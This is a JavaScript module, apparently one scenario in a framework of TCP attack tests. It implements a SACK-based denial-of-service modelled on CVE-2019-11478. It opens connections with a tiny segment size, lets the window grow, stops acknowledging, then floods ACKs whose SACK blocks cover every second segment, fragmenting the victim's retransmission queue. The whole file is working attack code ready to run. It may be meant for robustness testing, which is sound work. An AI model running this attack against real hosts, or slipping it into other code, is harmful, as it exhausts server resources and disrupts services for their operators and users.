import { ACK, sackOption } from '../peers.js'

export const summary = 'SACKs every second segment of a large flight, then falls silent (CVE-2019-11478)'
export const short = true

/** As CVE-2019-11478: many pieces in flight, and then the timeout puts each of them back. */
export const attack = async (peers, { goesOn }) => {
  while (await goesOn()) {
    const c = await peers.connect(19, { mss: 536, scale: 10 })
    if (c === null) continue
    // The window grows as long as all is acknowledged.
    c.takeAll()
    for (let i = 0; i < 300 && (await goesOn(2)); i++) {}
    c.arrived = () => {}
    const from = c.next
    await goesOn(200)
    // Four blocks a segment, each of them a second one.
    for (let at = from + 536; ((c.next - at) | 0) > 0; at += 8 * 536) {
      const blocks = [0, 1, 2, 3].map(i => [at + 2 * i * 536, at + (2 * i + 1) * 536])
      c.send(ACK, { ack: from, options: sackOption(blocks) })
    }
  }
}
